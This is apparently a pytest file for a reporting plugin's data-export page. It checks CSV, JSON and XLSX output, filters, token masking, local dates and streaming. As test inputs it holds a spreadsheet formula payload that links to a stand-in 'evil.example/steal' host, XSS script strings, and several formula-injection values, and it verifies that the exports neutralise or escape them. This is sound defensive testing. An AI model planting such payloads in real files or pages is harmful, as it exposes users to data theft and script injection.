"""``export_data.php``: the options page by default; CSV, JSON and XLSX streamed with filters applied.

Reporting rows are placed by hand with known times, so every expected cell is written out below.
The site timezone is Asia/Kolkata (UTC+05:30, no daylight saving): dates are computed in it.
"""

import csv
import io
import json
import re
import tempfile
import zipfile
from datetime import datetime
from zoneinfo import ZoneInfo

import pytest
import sqlalchemy as sa

from .support import PREFIX, XSS

ESCAPED = "&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt;"
KOLKATA = ZoneInfo("Asia/Kolkata")
FORMULA = '=HYPERLINK("http://evil.example/steal","Click")'
URL = f"{PREFIX}/export_data.php"
HEADERS = [
    "ID", "User ID", "Company ID", "Course ID", "First Name", "Last Name", "Email", "Course Name",
    "Time Completed", "Time Started", "Percentage", "Status", "Created At", "Updated At",
]  # fmt: skip


def local(timestamp):
    return datetime.fromtimestamp(timestamp, KOLKATA).strftime("%Y-%m-%d %H:%M:%S")


@pytest.fixture(scope="module")
def data(site):
    """Two companies, the plugin's service with two tokens (owner in Acme), another service's token, four rows."""
    now = site.now
    site.core_config("timezone", "Asia/Kolkata")
    acme, hostile = site.company("Acme Café"), site.company(XSS)
    site.add_to_company(site.admin, acme)
    site.api_service(tokens=2)
    other = site.api_service(shortname="moodle_mobile_app", tokens=1)
    reporting = site.tables.local_alx_api_reporting

    def row(userid, companyid, courseid, first, last, **values):
        base = dict(userid=userid, companyid=companyid, courseid=courseid, firstname=first, lastname=last,
                    email=f"{first.lower()}@example.com", coursename="Safety 101", last_updated=1)  # fmt: skip
        return site._insert(reporting, **{**base, **values})

    rows = {
        # created 40 days ago, completed 5 hours ago: only the change (updated_at) is in the last 24 hours
        "done": row(10, acme, 7, "Zoë", FORMULA, timecompleted=now - 5 * 3600, timestarted=now - 3 * 86400,
                    percentage=100, status="completed", created_at=now - 40 * 86400, updated_at=now - 2 * 3600),
        "busy": row(10, acme, 8, "Zoë", FORMULA, timestarted=now - 86400, percentage=50, status="in_progress",
                    created_at=now - 1800, updated_at=now - 1800),
        "idle": row(11, hostile, 7, XSS, "+Plus", status="not_started", created_at=now - 10 * 86400,
                    updated_at=now - 10 * 86400),
        "gone": row(11, hostile, 8, XSS, "@At", status="in_progress", percentage=25, is_deleted=1,
                    created_at=now - 600, updated_at=now - 600),
    }  # fmt: skip
    return {"acme": acme, "hostile": hostile, "other_service": other, "rows": rows, "now": now}


def sections(text):
    """CSV text → ``{title: [rows]}`` split at the blank rows between sections."""
    found, current = {}, None
    for record in csv.reader(io.StringIO(text)):
        if not record:
            current = None
        elif current is None:
            current = found.setdefault(record[0], [])
        else:
            current.append(record)
    return found


def download(client, **params):
    response = client.get(URL, query_string=params)
    assert response.status_code == 200, response.get_data(as_text=True)[:2000]
    return response


def test_the_options_page_is_the_default_and_shows_escaped_names_and_a_preview(admin_client, data):
    response = admin_client.get(URL)
    body = response.get_data(as_text=True)
    assert response.status_code == 200 and "attachment" not in response.headers.get("Content-Disposition", "")
    assert XSS not in body and ESCAPED in body
    assert 'id="preview-companies">2<' in body
    assert 'id="preview-tokens">2<' in body  # the plugin's service only, not the mobile app's token
    assert 'id="preview-rows">2<' in body  # last 24 hours, deleted rows left out: "done" (changed) and "busy"
    assert 'id="preview-service">Active<' in body
    for fmt in ("csv", "json", "xlsx"):
        assert f'name="format" value="{fmt}"' in body


def test_csv_has_a_bom_the_plugin_sections_masked_tokens_and_local_dates(admin_client, data, site):
    response = download(admin_client, format="csv", timerange="all")
    stamp = re.fullmatch(r'attachment; filename="alx_api_report_(\d{4}-\d\d-\d\d_\d\d-\d\d-\d\d)\.csv"',
                         response.headers["Content-Disposition"])  # fmt: skip
    assert stamp and response.headers["Content-Type"] == "text/csv; charset=utf-8"
    raw = response.get_data()
    assert raw.startswith(b"\xef\xbb\xbf")
    found = sections(raw.decode("utf-8-sig"))
    assert list(found) == ["ALX API Report Summary", "Companies", "API Tokens", "Reporting Data (All Time)"]
    summary = dict(found["ALX API Report Summary"])
    assert summary["Time Range"] == "All Time" and summary["Company Filter"] == "All Companies"
    assert summary["Total Matching Records"] == "3" and summary["Total Tokens"] == "2"
    assert summary["API Service Status"] == "Active"
    assert found["Companies"] == [["ID", "Name", "Shortname"], [str(data["hostile"]), XSS, XSS[:25]],
                                  [str(data["acme"]), "Acme Café", "Acme Café"]]  # fmt: skip
    tokens = found["API Tokens"]
    assert tokens[0] == ["ID", "Token (Partial)", "User ID", "Service ID", "Created"]
    assert [t[1] for t in tokens[1:]] == ["00010000…", "00010000…"]
    assert all(t[3] == "1" for t in tokens[1:])  # the mobile app service (2) is left out

    report = found["Reporting Data (All Time)"]
    assert report[0] == HEADERS
    now, rows = data["now"], data["rows"]
    done = [str(rows["done"]), "10", str(data["acme"]), "7", "Zoë", "'" + FORMULA, "zoë@example.com", "Safety 101",
            local(now - 5 * 3600), local(now - 3 * 86400), "100.00", "completed", local(now - 40 * 86400),
            local(now - 2 * 3600)]  # fmt: skip
    idle = [str(rows["idle"]), "11", str(data["hostile"]), "7", XSS, "'+Plus", f"{XSS.lower()}@example.com",
            "Safety 101", "Not completed", "Not started", "0.00", "not_started", local(now - 10 * 86400),
            local(now - 10 * 86400)]  # fmt: skip
    assert [r[0] for r in report[1:]] == [str(rows["idle"]), str(rows["busy"]), str(rows["done"])]  # newest first
    assert report[3] == done and report[1] == idle


def test_formula_cells_are_neutralised_but_plain_text_is_untouched(admin_client, data):
    text = download(admin_client, format="csv", timerange="all", include_deleted="1").get_data().decode("utf-8-sig")
    report = sections(text)["Reporting Data (All Time)"]
    last_names = {r[5] for r in report[1:]}
    assert last_names == {"'" + FORMULA, "'+Plus", "'@At"}
    assert FORMULA not in {cell for r in report for cell in r}
    assert {r[4] for r in report[1:]} == {"Zoë", XSS}


def test_filters_company_time_range_status_and_deleted_rows(admin_client, data):
    rows = data["rows"]

    def ids(**params):
        text = download(admin_client, format="csv", **params).get_data().decode("utf-8-sig")
        found = sections(text)
        [report] = [v for k, v in found.items() if k.startswith("Reporting Data")]
        return [int(r[0]) for r in report[1:]], found

    assert ids(timerange="24h")[0] == [rows["busy"], rows["done"]]  # "done" changed 2 hours ago
    assert ids(timerange="1h")[0] == [rows["busy"]]
    assert ids(timerange="7d", status="completed")[0] == [rows["done"]]
    assert ids(timerange="30d", companyid=data["hostile"])[0] == [rows["idle"]]
    deleted, found = ids(timerange="all", companyid=data["hostile"], include_deleted="1")
    assert deleted == [rows["gone"], rows["idle"]]
    report = found["Reporting Data (All Time)"]
    assert report[0] == [*HEADERS, "Deleted"] and [r[-1] for r in report[1:]] == ["Yes", "No"]
    # a company filter keeps only that company and the tokens of its members (none in the hostile company)
    assert [c[0] for c in found["Companies"][1:]] == [str(data["hostile"])]
    assert found["API Tokens"][1:] == []
    assert dict(found["ALX API Report Summary"])["Company Filter"] == f"Company ID: {data['hostile']} ({XSS})"


@pytest.mark.parametrize(
    ("params", "message"),
    [
        ({"format": "csv", "timerange": "<script>alert(1)</script>"}, "Time range must be one of 1h, 24h"),
        ({"timerange": "7d'\"><b>x"}, "Time range must be one of"),
        ({"format": "exe"}, "Format must be one of csv, json, xlsx"),
        ({"format": "csv", "status": "in progress"}, "Status must be one of"),
        ({"format": "csv", "companyid": "-1"}, "Company must be a company of the list"),
        ({"format": "json", "companyid": "987654"}, "There is no company with ID 987654"),
    ],
)
def test_invalid_options_are_refused_with_a_message_and_never_reflected(admin_client, data, params, message):
    response = admin_client.get(URL, query_string=params)
    body = response.get_data(as_text=True)
    assert response.status_code == 400 and "attachment" not in response.headers.get("Content-Disposition", "")
    assert message in body and "nothing was exported" in body
    for value in params.values():
        if value not in ("csv", "json", "-1") and not value.isdigit():  # a checked company ID may be named
            assert value not in body
    assert "<script>alert(1)" not in body and "<b>x" not in body


def test_json_parses_with_the_plugin_keys(admin_client, data):
    response = download(admin_client, format="json", timerange="all", companyid=data["acme"])
    assert response.headers["Content-Type"] == "application/json; charset=utf-8"
    assert response.headers["Content-Disposition"].endswith('.json"')
    exported = json.loads(response.get_data(as_text=True))
    assert list(exported) == ["summary", "companies", "tokens", "reporting_data"]
    assert exported["summary"]["total_matching_records"] == 2 and exported["summary"]["include_deleted"] is False
    assert exported["companies"] == [{"id": data["acme"], "name": "Acme Café", "shortname": "Acme Café"}]
    assert [t["token"] for t in exported["tokens"]] == ["00010000…", "00010000…"]
    first = exported["reporting_data"][1]
    assert first["lastname"] == FORMULA  # JSON is data, not a spreadsheet: values are exact
    assert first["percentage"] == 100 and first["timecompleted"] == local(data["now"] - 5 * 3600)
    assert exported["reporting_data"][0]["timecompleted"] == "Not completed"
    empty = json.loads(download(admin_client, format="json", timerange="1h", status="completed").get_data(as_text=True))
    assert empty["reporting_data"] == [] and empty["summary"]["total_matching_records"] == 0


def test_xlsx_has_the_rows_as_text_cells_and_its_temporary_file_is_deleted(admin_client, data, monkeypatch, tmp_path):
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    response = download(admin_client, format="xlsx", timerange="all")
    assert response.headers["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response.headers["Content-Disposition"].endswith('.xlsx"')
    book = zipfile.ZipFile(io.BytesIO(response.get_data()))
    workbook = book.read("xl/workbook.xml").decode()
    assert re.findall(r'<sheet name="([^"]+)"', workbook) == [
        "ALX API Report Summary", "Companies", "API Tokens", "Reporting Data"
    ]  # fmt: skip
    sheet = book.read("xl/worksheets/sheet4.xml").decode()
    assert "<t>Zoë</t>" in sheet and "<t>Not completed</t>" in sheet
    assert f"<t>{FORMULA}</t>" in sheet
    assert "<f>" not in sheet  # text, never a formula
    assert sheet.count("<row ") == 2 + 3  # title, headers, three rows
    assert list(tmp_path.iterdir()) == []


@pytest.fixture
def many_rows(site):
    """3 500 rows of one company, removed afterwards."""
    company = site.company("Bulk Ltd")
    reporting = site.tables.local_alx_api_reporting
    now = site.now
    with site.database.begin() as connection:
        connection.execute(
            reporting.insert(),
            [dict(userid=1000 + n, companyid=company, courseid=5, firstname=f"Learner{n}", lastname="Bulk",
                  email=f"l{n}@example.com", coursename="Bulk course", status="in_progress", percentage=n % 100,
                  last_updated=1, created_at=now - n, updated_at=now - n) for n in range(3500)],
        )  # fmt: skip
    yield company
    with site.database.begin() as connection:
        connection.execute(sa.delete(reporting).where(reporting.c.companyid == company))
        connection.execute(sa.delete(site.tables.company).where(site.tables.company.c.id == company))


def reporting_selects(site):
    """A list that fills with the SELECTs on the reporting table that return its rows (not COUNTs)."""
    seen = []
    name = site.tables.local_alx_api_reporting.name

    def listen(conn, cursor, statement, parameters, context, executemany):
        if name in statement and "LIMIT" in statement and "count(" not in statement.lower():
            seen.append(statement)

    sa.event.listen(site.database.engine, "before_cursor_execute", listen)
    return seen, lambda: sa.event.remove(site.database.engine, "before_cursor_execute", listen)


@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_a_few_thousand_rows_stream_in_chunks_from_chunked_queries(admin_client, site, data, many_rows, fmt):
    seen, stop = reporting_selects(site)
    try:
        response = admin_client.get(URL, query_string={"format": fmt, "timerange": "all", "companyid": many_rows},
                                    buffered=False)  # fmt: skip
        # the test client pulls the first chunk to start the response; the rest is read as the body is
        assert response.is_streamed and len(seen) <= 1
        chunks = list(response.response)
        response.close()
    finally:
        stop()
    assert len(seen) == 4  # 1000 + 1000 + 1000 + 500 rows
    assert len(chunks) > 4
    body = b"".join(chunks).decode("utf-8-sig")
    if fmt == "csv":
        report = sections(body)["Reporting Data (All Time)"]
        ids = [int(r[0]) for r in report[1:]]
        assert len(ids) == 3500 and ids == sorted(ids, reverse=True)  # each row once, newest (highest id) first
        assert report[1][4] == "Learner3499" and report[-1][4] == "Learner0"
    else:
        exported = json.loads(body)
        assert len(exported["reporting_data"]) == 3500 and exported["summary"]["total_matching_records"] == 3500


def test_an_export_without_matching_rows_still_has_the_column_headers(admin_client, data):
    response = download(admin_client, format="csv", timerange="1h", status="not_started")
    found = sections(response.get_data().decode("utf-8-sig"))
    assert found["Reporting Data (Last Hour)"] == [HEADERS]


def test_formulas_after_a_line_break_or_another_separator_are_neutralised(admin_client, site, data):
    """Excel in a ``;`` locale splits ``Smith;=1+1`` into two cells; a leading line feed does not stop a formula."""
    company = site.company("Separators Ltd")
    hostile = {"\n=1+1": "'\n=1+1", "Smith;=1+1": "Smith;'=1+1", "Doe;\t@SUM(A1)": "Doe;\t'@SUM(A1)",
               "Ray\t-2": "Ray\t'-2", "a, +b": "a, '+b", "Mary-Jane; Lee": "Mary-Jane; Lee"}  # fmt: skip
    for number, lastname in enumerate(hostile):
        site._insert(site.tables.local_alx_api_reporting, userid=50 + number, companyid=company, courseid=7,
                     firstname="F", lastname=lastname, email="f@example.com", coursename="C", last_updated=1,
                     created_at=data["now"], updated_at=data["now"])  # fmt: skip
    text = download(admin_client, format="csv", timerange="all", companyid=str(company)).get_data().decode("utf-8-sig")
    report = sections(text)["Reporting Data (All Time)"]
    assert sorted(r[5] for r in report[1:]) == sorted(hostile.values())
